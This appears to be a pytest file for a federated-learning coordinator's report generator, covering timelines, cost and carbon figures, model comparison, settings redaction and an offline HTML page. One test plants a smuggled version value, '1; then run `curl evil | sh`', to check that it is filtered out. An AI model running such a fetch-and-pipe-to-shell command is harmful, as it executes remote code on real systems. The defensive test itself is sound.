"""The report: its time adds up, and its page opens without errors and without a network, whatever the federation."""

from __future__ import annotations

import dataclasses
import itertools
import json
import re
import shutil
import subprocess
import sys
from pathlib import Path
from typing import get_args

import pytest

from coordinator.archive.journal import Journal
from coordinator.archive.rounds import CARRIED, Archive, FacilityRow
from coordinator.comparison.account import Account, write_account
from coordinator.comparison.matrix import forgotten
from coordinator.report.charts import MOST_TITLES, Bar, log_ticks, shortened, ticks, timeline, whole_ticks
from coordinator.report.data import gather
from coordinator.report.markdown import markdown
from coordinator.report.page import MOST_ROWS, figures, last_artefacts, last_rounds, page
from coordinator.report.redaction import published_settings, redacted
from coordinator.report.timeline import KINDS, STAGES, segments, totals
from coordinator.report.write import FORMATS, write_report
from facility.exchange.messages.progress import Stage
from tests.comparison.made import add_comparison
from tests.report.made import made_archive

BROWSER = next(filter(None, map(shutil.which, ("chromium-headless-shell", "chromium", "google-chrome"))), None)
MOST_BYTES = 2_000_000


def data_of(archive: Archive, rounds: int = 3) -> dict:
    settings = {"rounds": rounds, "training": {"steps": 10}}
    return gather(archive, federation="made", settings=settings, carbon=300.0)


def test_segments_of_a_facility_do_not_overlap_and_with_idle_time_fill_the_span(tmp_path: Path):
    archive = made_archive(tmp_path / "a", facilities=5, rounds=3)
    found = segments(Journal(archive.path).read(), {})
    names = sorted({one.facility for one in found})
    sums = totals(found, names)
    span = max(one.end for one in found) - min(one.begin for one in found)
    for name in names:
        own = sorted((one for one in found if one.facility == name), key=lambda one: one.begin)
        assert all(one.end <= other.begin + 1e-6 for one, other in zip(own, own[1:], strict=False)), name
        assert sum(sums[name].values()) == pytest.approx(span, abs=0.01)
    assert {one.kind for one in found} <= set(KINDS) and any(one.kind == "lost" for one in found)


def test_a_report_reads_each_round_and_the_journal_once(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    """Rounds that end meanwhile are in all of it or in none."""
    archive, read = made_archive(tmp_path / "a", facilities=2, rounds=3), []
    read_round, read_journal = Archive.read_round, Journal.read
    monkeypatch.setattr(Archive, "read_round", lambda a, number: (read.append(number), read_round(a, number))[1])
    monkeypatch.setattr(Journal, "read", lambda journal: (read.append("journal"), read_journal(journal))[1])
    data_of(archive)
    assert read == [0, 1, 2, "journal"]


def test_a_job_that_was_never_seen_running_is_divided_as_it_reports_itself(tmp_path: Path):
    journal = Journal(tmp_path)
    journal.append("queued", time=100.0, facility="a", round=0, job="1")
    journal.append("trained", time=200.0, facility="a", round=0, code=0)
    found = segments(journal.read(), {(0, "a"): {"load": 5.0, "train": 20.0, "evaluate": 10.0, "save": 5.0}})
    assert [(one.kind, one.begin, one.end) for one in found] == [
        ("queue", 100.0, 160.0),
        ("load", 160.0, 165.0),
        ("train", 165.0, 185.0),
        ("evaluate", 185.0, 195.0),
        ("save", 195.0, 200.0),
    ]


def test_every_stage_that_a_job_reports_is_drawn_as_what_it_is(tmp_path: Path):
    """What a job waited for an earlier one of its round was drawn, and summed, as optimizer steps."""
    assert set(STAGES) == set(get_args(Stage)) and set(STAGES.values()) <= set(KINDS)
    journal = Journal(tmp_path)
    journal.append("started", time=0.0, facility="a", round=0)
    for number, stage in enumerate(get_args(Stage), 1):
        journal.append("stage", time=10.0 * number, facility="a", round=0, stage=stage)
    journal.append("trained", time=60.0, facility="a", round=0, code=0)
    told = [(one.kind, one.end - one.begin) for one in segments(journal.read(), {})]
    kinds = ("load", "wait", "load", "evaluate", "train", "save")
    assert told == [(kind, 10.0) for kind in kinds]


def test_a_run_that_was_killed_loses_the_job_under_way_and_a_login_that_was_refused_is_named(tmp_path: Path):
    journal = Journal(tmp_path)
    journal.append("started", time=10.0, facility="a", round=0)
    journal.append("login_refused", time=5.0, facility="b", reason="x")
    journal.append("login_works", time=25.0, facility="b")
    journal.append("run_started", time=60.0)
    told = [(one.facility, one.kind, one.begin, one.end) for one in segments(journal.read(), {})]
    assert told == [("b", "login", 5.0, 25.0), ("a", "lost", 10.0, 60.0)]


def test_a_late_job_is_drawn_to_its_end_whatever_rounds_and_runs_end_meanwhile(tmp_path: Path):
    journal, who = Journal(tmp_path), {"facility": "slow"}
    journal.append("started", time=0.0, round=0, **who)
    journal.append("late", time=10.0, round=0, reason=CARRIED, **who)
    journal.append("averaged", time=11.0, round=0, decision="go on")
    journal.append("averaged", time=21.0, round=1, decision="go on")
    journal.append("trained", time=30.0, round=2, code=0, **who)
    journal.append("verified", time=31.0, round=2, **who)
    journal.append("averaged", time=33.0, round=2, decision="go on")
    # the same, and the run is killed: the next one finds what the job has left, and one that left nothing begins again
    journal.append("started", time=40.0, round=3, **who)
    journal.append("late", time=45.0, round=3, reason=CARRIED, **who)
    journal.append("run_started", time=50.0)
    journal.append("verified", time=70.0, round=4, **who)
    journal.append("started", time=80.0, round=5, **who)
    journal.append("run_started", time=90.0)
    journal.append("started", time=95.0, round=5, **who)
    found = segments(journal.read(), {(4, "slow"): {"load": 5.0, "train": 20.0}})
    told = [(one.kind, one.begin, one.end) for one in found]
    assert told == [
        ("train", 0.0, 30.0),
        ("wait", 30.0, 33.0),
        ("load", 40.0, 45.0),
        ("train", 45.0, 65.0),
        ("lost", 80.0, 90.0),
    ]


def test_what_became_of_a_late_update_is_told_where_it_is_missed(tmp_path: Path):
    archive = made_archive(tmp_path / "a", facilities=3, rounds=3)
    for number, row in ((0, {"status": "late", "reason": CARRIED}), (1, {"status": "ok", "staleness": 1})):
        path = archive.round_directory(number) / "round.json"
        described = json.loads(path.read_text())
        described["facilities"][0] |= row
        path.write_text(json.dumps(described))
    data = data_of(archive)
    name = data["rounds"][0]["facilities"][0]["facility"]
    (told,) = [one for one in data["failures"] if one["status"] == "late"]
    assert told["facility"] == name and told["done"] == "its update of round 0 was averaged in round 1"
    assert any(line.startswith("late: ") for line in data["remarks"])


def test_the_wait_of_a_job_for_its_model_is_told_and_counted(tmp_path: Path):
    """Of two jobs, one got its round 30 s after it had begun, the other ended without one."""
    archive = made_archive(tmp_path / "a", facilities=2, rounds=2)
    before, journal = data_of(archive, 2), Journal(archive.path)
    names, last = before["facilities"], max(one.time for one in journal.read())
    for name, seconds, handed in ((names[0], 30.0, True), (names[1], 1800.0, False)):
        told = {"job": "7", "seconds": seconds, "nodes": 4, "handed": handed}
        journal.append("waited", time=last + 100, facility=name, round=1, **told)
    data = data_of(archive, 2)
    old, new = before["cost"]["facilities"], data["cost"]["facilities"]
    assert [new[name]["waited_node_hours"] for name in names] == [pytest.approx(4 * 30 / 3600), 2.0]
    assert new[names[0]]["node_hours"] == old[names[0]]["node_hours"], "its own report has the wait"
    assert new[names[1]]["node_hours"] == pytest.approx((old[names[1]]["node_hours"] or 0.0) + 2.0)
    assert "waiting for a model" in markdown(data) and "waiting for a model" in page(data)
    assert "waiting for a model" not in markdown(before) and "waiting for a model" not in page(before)
    assert any(f"{names[1]}: 2 node-hours in jobs that waited" in line for line in data["remarks"])


def test_a_job_that_waits_for_its_model_takes_the_place_of_its_facilitys_wait_alone(tmp_path: Path):
    journal = Journal(tmp_path)
    for kind, time, more in (
        ("started", 0.0, {}),
        ("trained", 100.0, {"code": 0}),
        ("transferred", 110.0, {"seconds": 10.0, "what": "update", "bytes": 1}),
        ("averaged", 150.0, {"decision": ""}),
        ("waited", 170.0, {"job": "2", "seconds": 90.0, "nodes": 1, "handed": True}),
        ("queued", 170.5, {"job": "2"}),
        ("started", 171.0, {"job": "2"}),
        ("trained", 200.0, {"code": 0}),
    ):
        who = {} if kind == "averaged" else {"facility": "a"}
        journal.append(kind, time=time, round=0, **who, **more)  # type: ignore[arg-type]
    told = [(one.kind, one.begin, one.end) for one in segments(journal.read(), {})]
    assert told[:3] == [("train", 0.0, 100.0), ("transfer", 100.0, 110.0), ("ahead", 110.0, 170.0)]
    assert all(one[2] <= other[1] for one, other in zip(told, told[1:], strict=False))


@pytest.mark.parametrize(
    ("facilities", "rounds", "events", "half", "compared"),
    [
        (2, 3, True, False, True),
        pytest.param(8, 3, True, True, True, marks=pytest.mark.slow),
        pytest.param(64, 10, True, False, True, marks=pytest.mark.slow),
        pytest.param(2, 2, False, False, False, marks=pytest.mark.slow),
        pytest.param(3, 0, True, True, False, marks=pytest.mark.slow),
    ],
)
def test_every_kind_of_federation_has_a_page_of_its_own(
    facilities: int, rounds: int, events: bool, half: bool, compared: bool, tmp_path: Path
):
    archive = made_archive(tmp_path / "a", facilities=facilities, rounds=rounds, events=events, half=half)
    if compared:
        add_comparison(archive, [f"facility-{number:02d}" for number in range(facilities)], absent="facility-01")
    data = data_of(archive, rounds)
    for kind in FORMATS:
        path = write_report(data, tmp_path / f"report.{kind}", kind)
        assert kind == "json" or path.stat().st_size < MOST_BYTES
    page = (tmp_path / "report.html").read_text()
    assert not re.search(r"(src|href)=\"?(https?:)?//|<script|url\(|@import", page)
    assert "<script>alert(1)" not in page and "prefers-color-scheme: dark" in page and "width=device-width" in page
    assert page.count("<svg") >= (1 if events or rounds else 0)
    assert ("no facility trained on" in page) == compared == ("bootstrap" in (tmp_path / "report.md").read_text())
    assert json.loads((tmp_path / "report.json").read_text()) == json.loads(json.dumps(data))
    if BROWSER is None:
        pytest.skip("no Chromium is installed to open the page with")
    for size, more in (("1100,900", []), ("390,800", ["--blink-settings=preferredColorScheme=0"])):
        shot = tmp_path / f"{size}.png"
        result = subprocess.run(
            [
                BROWSER,
                "--headless",
                "--no-sandbox",
                "--disable-gpu",
                "--enable-logging=stderr",
                f"--user-data-dir={tmp_path / 'profile'}",
                f"--window-size={size}",
                f"--screenshot={shot}",
                *more,
                (tmp_path / "report.html").as_uri(),
            ],
            capture_output=True,
            text=True,
            timeout=120,
        )
        assert shot.stat().st_size > 5000, result.stderr
        assert "CONSOLE" not in result.stderr


def test_a_matrix_under_secure_aggregation_has_own_models_in_their_own_rows_and_says_why(tmp_path: Path):
    names = [f"facility-{number:02d}" for number in range(3)]
    archive = add_comparison(made_archive(tmp_path / "a", facilities=3, rounds=2), names, masked=True)
    for masked in (True, False):
        settings = {"rounds": 2, "privacy": {"secure_aggregation": masked}}
        data = gather(archive, federation="made", settings=settings, carbon=0.0)
        cells = {(one["facility"], one["model"]) for one in data["matrix"]["cells"]}
        both = {(name, model) for name in names for model in ("initial", "global")}
        assert cells == both | {(name, f"{name}{end}") for name in names for end in ("'s update", " alone")}
        assert len([line for line in data["matrix"]["verdicts"] if "its own last update" in line]) == len(names)
        for kind in ("html", "md"):
            text = write_report(data, tmp_path / f"report.{kind}", kind).read_text()
            assert ("in the rows of their own data alone" in text) == masked, kind


def test_long_tables_keep_what_is_latest_and_every_model():
    updates = [{"name": f"update of a, round {number}"} for number in range(MOST_ROWS + 7)]
    models = [{"name": f"global model after round {number}"} for number in range(MOST_ROWS + 7)]
    data = {"facilities": ["a", "b"], "rounds": list(range(MOST_ROWS)), "artefacts": [*models, *updates]}
    assert last_rounds(data) == list(range(MOST_ROWS // 2, MOST_ROWS))
    assert last_artefacts(data) == [*models, *updates[7:]]
    few = {"facilities": ["a"], "rounds": [0, 1], "artefacts": updates[:2]}
    assert last_rounds(few) == few["rounds"] and last_artefacts(few) == few["artefacts"]


@pytest.mark.parametrize("count", [MOST_TITLES, MOST_TITLES + 1])
def test_bars_of_a_crowded_timeline_are_one_path_a_kind(count: int):
    bars = [Bar(lane="a", kind=f"kind{n % 3}", begin=n, end=n + 1, title="t") for n in range(count)]
    drawn = timeline(bars, ["a"], clock=str)
    crowded = count > MOST_TITLES
    assert drawn.count("<rect") == (0 if crowded else count) and drawn.count("<path") == (3 if crowded else 0)
    assert drawn.count("M") == (count if crowded else 0)


def test_a_label_keeps_the_end_that_tells_models_apart():
    names = [f"a-site-with-a-long-name{end}" for end in ("'s update", " alone")]
    assert len({shortened(name) for name in names}) == 2 and all(len(shortened(name)) <= 24 for name in names)
    assert shortened("site-a alone") == "site-a alone"


def test_the_matrix_says_first_for_how_many_facilities_the_global_model_is_better(tmp_path: Path):
    names = [f"facility-{number:02d}" for number in range(8)]
    data = data_of(add_comparison(made_archive(tmp_path / "a", facilities=8, rounds=2), names, absent="facility-01"))
    alone, update = data["matrix"]["summary"]
    verdicts = data["matrix"]["verdicts"]
    for line, what in ((alone, "training alone"), (update, "its own last update")):
        own = [one for one in verdicts if f" {what}:" in one]
        counts = [sum(f" is {words} " in one for one in own) for words in ("better", "worse", "not told apart")]
        assert sum(counts) == len(own) == 7
        told = "better at {}, worse at {}, not told apart at {}.".format(*counts)
        assert line == f"The global model against {what}, on the data of 7 facilities: {told}"
    assert "no facility trained on" in verdicts[-1] and "no facility trained on" not in "".join(verdicts[:-1])
    html, text = page(data), markdown(data)
    assert html.index(alone) < html.index(verdicts[0]) and text.index(alone) < text.index(verdicts[0][:30])


def test_what_was_forgotten_is_told_whichever_of_both_models_was_evaluated_first():
    less = {"value": 0.9, "low": 0.8, "high": 1.0}
    more = {"value": -0.9, "low": -1.0, "high": -0.8}
    for models in (
        [{"model": "global", "against": {}}, {"model": "initial", "against": {"global": less}}],
        [{"model": "initial", "against": {}}, {"model": "global", "against": {"initial": more}}],
    ):
        (line,) = forgotten([one | {"held_out": True, "blocks": 200} for one in models], "wikitext")
        assert line == (
            "wikitext, which no facility trained on: the global model is better than the initial one: "
            "-0.9000 nats per token [-1.0000, -0.8000]."
        )


@pytest.mark.parametrize(
    ("blocks", "told"), [(1, "not told apart from"), (5, "not told apart from"), (6, "better than")]
)
def test_a_few_validation_blocks_tell_no_models_apart(blocks: int, told: str):
    """The interval of resamples of one block is a point, and one that leaves 0 out of five blocks is often chance."""
    less = {"value": -0.1, "low": -0.1, "high": -0.1}
    figure = {"model": "global", "held_out": True, "blocks": blocks, "against": {"initial": less}}
    (line,) = forgotten([figure], "wikitext")
    assert f"the global model is {told} " in line and "the initial one: -0.1000" in line
    assert ("too few to tell" in line) == (blocks < 6)


def test_markdown_has_scores_on_tasks_carbon_and_versions_and_speaks_of_no_colour(tmp_path: Path):
    archive = made_archive(tmp_path / "a", facilities=2, rounds=1)
    path = archive.round_directory(0) / "round.json"
    record = json.loads(path.read_text())
    record["facilities"][0]["scores"] = {
        "results": [{"task": "made_here", "metric": "acc", "value": 0.25, "stderr": 0.01}]
    }
    path.write_text(json.dumps(record))
    text = markdown(data_of(add_comparison(archive, ["facility-00", "facility-01"])))
    assert "| 0 | facility-00 | made_here | acc | 0.250 | 0.01 |" in text
    assert "kg CO₂e" in text and "no counter" in text and "torch 2.13.0" in text and "colour" not in text
    assert re.search(r"\| global model after round 0 \| [0-9a-f]{64} \|", text) and "`" not in text


def test_training_losses_go_on_over_the_rounds_that_a_facility_took_part_in(tmp_path: Path):
    archive = made_archive(tmp_path / "a", facilities=3, rounds=4)
    told = data_of(archive)["training_losses"]
    for name, points in told.items():
        own = [row for entry in archive.history() for row in entry.facilities if row.facility == name]
        good = [row for row in own if row.status == "ok"]
        assert [step for step, _ in points] == [
            60 * number + step for number, row in enumerate(good) for step, _ in row.training_losses
        ]
        assert [loss for _, loss in points] == [loss for row in good for _, loss in row.training_losses]
    html = page(data_of(archive))
    assert all(f"{name}: training loss" in html for name in told)
    none = data_of(archive) | {"training_losses": {}}
    assert 'id="training"' in html and 'id="training"' not in page(none)


def test_a_short_final_evaluation_is_drawn_as_what_it_reports(tmp_path: Path):
    archive = made_archive(tmp_path / "a", facilities=1, rounds=1)
    journal = Journal(archive.path)
    last = max(one.time for one in journal.read())
    journal.append("started", time=last + 10, facility="facility-00", round=1)
    journal.append("trained", time=last + 30, facility="facility-00", round=1, code=0)
    row = FacilityRow(round=1, facility="facility-00", status="ok", phases={"load": 5.0, "evaluate": 10.0})
    note = {"after_round": 0, "global_loss": 2.0, "global_loss_over": [], "facilities": [dataclasses.asdict(row)]}
    (archive.path / "evaluation.json").write_text(json.dumps(note))
    own = [one for one in data_of(archive)["timeline"]["segments"] if one["round"] == 1]
    assert [(one["kind"], round(one["end"] - one["begin"])) for one in own] == [
        ("load", 5),
        ("load", 5),
        ("evaluate", 10),
    ]


def test_who_did_not_evaluate_the_final_model_missed_no_round_beyond_the_last(tmp_path: Path):
    """It was told as round 1 of one round, "asked for again, or not complete"; and no counter was looked for there."""
    archive = made_archive(tmp_path / "a", facilities=1, rounds=1)
    journal = Journal(archive.path)
    last = max(one.time for one in journal.read())
    journal.append("refused", time=last + 1, facility="facility-00", round=1, reason="no disk")
    row = FacilityRow(round=1, facility="facility-00", status="failed", reason="no disk")
    note = {"after_round": 0, "global_loss": None, "global_loss_over": [], "facilities": [dataclasses.asdict(row)]}
    (archive.path / "evaluation.json").write_text(json.dumps(note))
    data = data_of(archive)
    (told,) = (one for one in data["failures"] if one["reason"] == "no disk")
    assert (told["round"], told["done"]) == ("final", "the final model was not evaluated on its data")
    assert data["cost"]["facilities"]["facility-00"]["rounds"] == 1, "that of the round; the other reported nothing"
    assert "<td>final</td>" in page(data) and "| final | facility-00 |" in markdown(data)


def test_a_model_that_nobody_received_yet_is_not_told_to_be_as_good_as_the_one_before(tmp_path: Path):
    """After the first round the initial model's figure stood on both sides of an arrow."""
    archive = made_archive(tmp_path / "a", facilities=2, rounds=1)
    (archive.path / "evaluation.json").unlink(missing_ok=True)
    ((shown, _), *_) = figures(data_of(archive))
    assert "→" not in shown and float(shown) > 1
    ((shown, _), *_) = figures(data_of(made_archive(tmp_path / "b", facilities=2, rounds=2)))
    assert len(shown.split(" → ")) == 2


def test_versions_that_a_facility_tells_are_versions(tmp_path: Path):
    archive = made_archive(tmp_path / "a", facilities=1, rounds=1)
    path = archive.round_directory(0) / "round.json"
    record = json.loads(path.read_text())
    odd = {"torch": "2.13.0+cu130", "x": "1; then run `curl evil | sh`", "a b": "1", "y": "v" * 61, "z": ""}
    record["facilities"][0]["versions"] = odd
    path.write_text(json.dumps(record))
    assert data_of(archive)["versions"]["facility-00"] == {"torch": "2.13.0+cu130"}


def test_figures_are_sums_of_what_was_reported(tmp_path: Path):
    archive = made_archive(tmp_path / "a", facilities=4, rounds=2)
    data = data_of(archive)
    rows = [row for entry in data["rounds"] for row in entry["facilities"]]
    assert data["headline"]["tokens"] == sum(row["tokens"] for row in rows)
    joules = sum(row["usage"].get("energy_joules", 0.0) for row in rows)
    assert data["cost"]["total"]["kwh"] == pytest.approx(joules / 3.6e6)
    assert data["cost"]["total"]["co2e_kg"] == pytest.approx(joules / 3.6e6 * 0.3)
    assert data["cost"]["facilities"]["facility-00"]["kwh"] is None  # no counter: absent, not nothing
    ok = [row for row in rows if row["status"] == "ok"]
    digests = {one["sha256"] for one in data["artefacts"]}
    assert {row["update_sha256"] for row in ok} <= digests
    for name, one in data["traffic"].items():
        moved = [row["moments_bytes"] for row in rows if row["facility"] == name]
        assert one["moments_bytes"] == sum(moved) and any(moved)
    assert "of these, moments" in markdown(data) and "of these, moments" in page(data)
    assert {one["status"] for one in data["failures"]} == {"failed"} and len(data["failures"]) == len(rows) - len(ok)


@pytest.mark.parametrize("events", [True, False], ids=["over ssh", "on this machine"])
def test_what_was_sent_after_the_last_round_was_moved_too(tmp_path: Path, events: bool):
    """The final evaluation, and the comparison of models: nobody times transfers on one machine."""
    archive = made_archive(tmp_path / "a", facilities=2, rounds=2, events=events)
    before = data_of(archive)["headline"]["bytes"]
    row = FacilityRow(round=2, facility="facility-00", status="ok", sent_bytes=10**12, received_bytes=10**9)
    note = {"after_round": 1, "global_loss": 2.0, "global_loss_over": [], "facilities": [dataclasses.asdict(row)]}
    (archive.path / "evaluation.json").write_text(json.dumps(note))
    write_account(archive, Account(after_round=1, rows=[dataclasses.asdict(row)]))
    if events:  # as transfers tell
        for kind, count in (("sent", 2 * 10**12), ("transferred", 2 * 10**9)):
            detail = {"facility": "facility-00", "round": 2, "bytes": count, "seconds": 1.0}
            Journal(archive.path).append(kind, time=1.8e9, what="model", **detail)
    moved = data_of(archive)["headline"]["bytes"] - before
    assert moved == pytest.approx(2 * (10**12 + 10**9), rel=0.01)


def test_what_is_nobodys_business_is_not_in_the_settings():
    shown = redacted(
        {
            "notify": {"webhook": "https://secret"},
            "facilities": [{"name": "a", "deployment": {"type": "slurm", "host": "login.a", "user": "me", "key": "k"}}],
        }
    )
    assert shown == {"facilities": [{"name": "a", "deployment": {"type": "slurm"}}]}
    paths = redacted({"dataset": "/work/project/secret-user/data", "bind": ["~/models"], "model": "org/model", "k": 1})
    assert paths == {"dataset": "…/data", "bind": ["…/models"], "model": "org/model", "k": 1}
    signing = {"signing_key": "k", "encoding": "full"}
    assert redacted({"sending": signing, "aggregation": {"allowed_signers": "x"}}) == {
        "sending": {"encoding": "full"},
        "aggregation": {},
    }


def test_a_publication_has_neither_accounts_nor_machines_and_of_the_unnamed_no_kind_of_queue():
    deployment = {"type": "slurm", "options": {"account": "EUHPC_D01"}, "template": "leonardo.sh"}
    facilities = [
        {"name": name, "dataset": "x", "deployment": deployment, "training": {"steps": 1}} for name in ("a", "b")
    ]
    settings = {
        "rounds": 1,
        "facilities": facilities,
        "evaluation": {"tasks": ["t"], "facility": "b", "held_out": {"facility": "b"}},
    }
    shown = published_settings(settings, {"a": True, "b": False})
    assert shown["facilities"] == [
        {"name": "a", "training": {"steps": 1}, "deployment": {"type": "slurm"}},
        {"name": "b", "training": {"steps": 1}},
    ]
    assert shown["evaluation"] == {"tasks": ["t"]} and shown["rounds"] == 1


@pytest.mark.parametrize(
    ("low", "high"), [(0, 0), (0, 5), (6, 240), (0, 12), (0, 13), (6, 660), (101, 130), (1, 99_999)]
)
def test_whole_ticks_are_round_few_and_within(low: int, high: int):
    found = whole_ticks(low, high)
    steps = {b - a for a, b in itertools.pairwise(found)} or {1.0}
    assert found and len(found) <= 13 and low <= found[0] and found[-1] <= high and len(steps) == 1
    (step,) = steps
    assert f"{step:.0f}".rstrip("0") in ("1", "2", "5") and all(value % step == 0 for value in found)


@pytest.mark.parametrize(
    ("low", "high"), [(0.0, 1.0), (3.0, 3.0), (-2.0, 7.5), (1e-9, 2e-9), (900.0, 1100.0), (0.0, 5e-324)]
)
def test_ticks_are_few_and_enclose_the_values(low: float, high: float):
    found = ticks(low, high)
    assert found[0] <= low and found[-1] >= high and 2 <= len(found) <= 8
    assert log_ticks(1.0, 900.0) and all(value > 0 for value in log_ticks(0.5, 900.0))
    ends = log_ticks(sys.float_info.min, sys.float_info.max)
    assert len(ends) > 600 and all(0 < value < float("inf") for value in ends)
